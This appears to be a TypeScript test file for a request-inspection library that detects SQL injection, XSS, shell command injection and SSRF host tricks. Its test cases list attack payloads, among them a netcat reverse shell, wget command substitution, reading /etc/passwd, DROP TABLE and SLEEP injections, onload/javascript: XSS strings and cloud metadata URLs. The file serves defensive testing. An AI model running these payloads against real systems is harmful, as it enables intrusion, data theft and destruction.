import { describe, expect, it } from 'vitest';
import { scanTags } from './html-tokenizer.js';
import { deobfuscateShell, detectShell } from './shell-detector.js';
import { detectSqli } from './sql-detector.js';
import { fingerprint, foldTokens, tokenizeSql } from './sql-tokenizer.js';
import { classifyUrlHost, parseIPv4, parseIPv6 } from './url-host.js';
import { detectXss, isScriptUrl } from './xss-detector.js';

const fp = (v: string, ctx: 'none' | 'single' | 'double' = 'none') => fingerprint(foldTokens(tokenizeSql(v, ctx)));

describe('tokenizeSql / foldTokens', () => {
  it.each([
    ["1' or '1'='1", 'single', 's&sos'],
    ['1 union select 1,2', 'none', '1UE1,1'],
    ['-1 UNION/**/SELECT password FROM users#', 'none', '1UEnknc'],
    ['/*!50000union*/ select 1', 'none', 'UE1'],
    ['admin\'--', 'single', 'sc'],
    ["It's from me", 'single', 'snkn'],
    ['sleep(5)', 'none', 'f(1)'],
    ['@@version', 'none', 'v'],
    ['0x414243 = 0b0101', 'none', '1o1'],
    ['`users`.`id`', 'none', 'nnn'],
  ] as const)('%s in %s context -> %s', (v, ctx, want) => expect(fp(v, ctx)).toBe(want));
  it('keeps at most MAX_TOKENS tokens on huge input', () => expect(tokenizeSql('a '.repeat(10_000), 'none').length).toBe(24));
});

describe('detectSqli', () => {
  it.each(["1' or '1'='1", 'admin\'--', '1 OR 1=1', "1; DROP TABLE users", "') or ('a'='a", '1 union all select null,null--', "x' AND SLEEP(5)#", 'select * from users where 1'])('flags %s', (v) => expect(detectSqli(v)).not.toBeNull());
  it.each(["O'Reilly and sons", "It's from me", 'Select your size', 'Update settings', 'Delete user', 'hello world', '3 or 4 items', "Rock 'n' roll", '{"from":123,"to":456}', 'john@example.com'])('passes %s', (v) => expect(detectSqli(v)).toBeNull());
  it('inspects the strings of a JSON document in a parameter', () => expect(detectSqli('{"name":"x\' or 1=1--"}')?.shape).toBe('string-logic'));
});

describe('scanTags / detectXss', () => {
  it('reads tag names (namespaced), quoted, unquoted and slash-separated attributes', () => {
    const [t] = scanTags('<x:script src="a b" /x=1 onload=alert(1)>');
    expect(t?.name).toBe('script');
    expect(t?.attributes.map((a) => [a.name, a.value])).toEqual([['src', 'a b'], ['x', '1'], ['onload', 'alert(1)']]);
    expect(t?.closed).toBe(true);
  });
  it.each(['<svg/onload=alert(1)>', '<img src=x onerror=alert(1)>', '"><iframe src=//x>', "' autofocus onfocus='alert(1)", 'javascript:alert(1)', 'JaVa\tScRiPt:alert(1)', '<a href="  javascript:x">', '<div style="width:expression(alert(1))">', '<meta http-equiv=refresh content=0;url=//x>'])('flags %s', (v) => expect(detectXss(v)).not.toBeNull());
  it.each(['<b>bold</b> and <i>it</i>', 'a < b > c', '<a href="https://example.com/?a=1&b=2">x</a>', 'price <= 5', 'VGhhbmtz/onafe=', 'x=1; y=2'])('passes %s', (v) => expect(detectXss(v)).toBeNull());
  it('recognises script URLs after browsers drop whitespace and control characters', () => {
    expect(isScriptUrl(' jav\nascript:alert(1)')).toBe(true);
    expect(isScriptUrl('https://example.com')).toBe(false);
  });
});

describe('detectShell', () => {
  it('undoes shell obfuscation', () => expect(deobfuscateShell(`c''a\\t /e$@tc/pa\${u}ss\${IFS}wd`)).toBe('cat /etc/pass wd'));
  it.each([';ps', ';env', 'cat /etc/passwd', 'x|nc -e /bin/sh 10.0.0.1 4444', 'time sh -c whoami', '`id`', '$(wget http://x)', 'ping`` 127.0.0.1', '\\ls', 'ansible all -m ping\n'])('flags %s', (v) => expect(detectShell(v)).not.toBeNull());
  it.each(['time warner', 'find x for y', 'python is fun', 'I like cats & dogs', 'Hello world; set the table', 'id', 'Axel Smith\n'])('passes %s', (v) => expect(detectShell(v)).toBeNull());
  it('is stricter in headers (User-Agent product tokens)', () => {
    expect(detectShell('Mozilla/5.0 (Windows NT 5.1; tr; rv:1.9.2.8)', true)).toBeNull();
    expect(detectShell(';env', true)).not.toBeNull();
  });
});

describe('url-host', () => {
  it.each([
    ['127.0.0.1', 0x7f000001],
    ['2130706433', 0x7f000001],
    ['0x7f.1', 0x7f000001],
    ['0177.0.0.1', 0x7f000001],
    ['127.1', 0x7f000001],
    ['0x41414141A9FEA9FE', 0xa9fea9fe],
  ])('parses IPv4 %s', (h, v) => expect(parseIPv4(h)?.value).toBe(v));
  it('expands IPv6 with embedded IPv4', () => {
    expect(parseIPv6('[::ffff:127.0.0.1]')).toEqual([0, 0, 0, 0, 0, 0xffff, 0x7f00, 1]);
    expect(parseIPv6('::1')).toEqual([0, 0, 0, 0, 0, 0, 0, 1]);
    expect(parseIPv6('example.com')).toBeNull();
  });
  it.each([
    ['http://127.0.0.1:8080/x', 'internal'],
    ['http://user@0x7f000001/', 'internal'],
    ['http://[::ffff:a9fe:a9fe]/', 'internal'],
    ['http://169.254.169.254/', 'metadata'],
    ['http://metadata.google.internal/', 'metadata'],
    ['localhost:8080/admin', 'local-name'],
    ['http://①②⑦.⓪.⓪.①/', 'internal'],
    ['https://8.8.8.8/', 'public-ip'],
    ['https://example.com/', 'name'],
  ])('classifies %s as %s', (v, kind) => expect(classifyUrlHost(v)?.kind).toBe(kind));
  it('ignores scheme-less words that are not local names', () => expect(classifyUrlHost('products/42')).toBeNull());
});
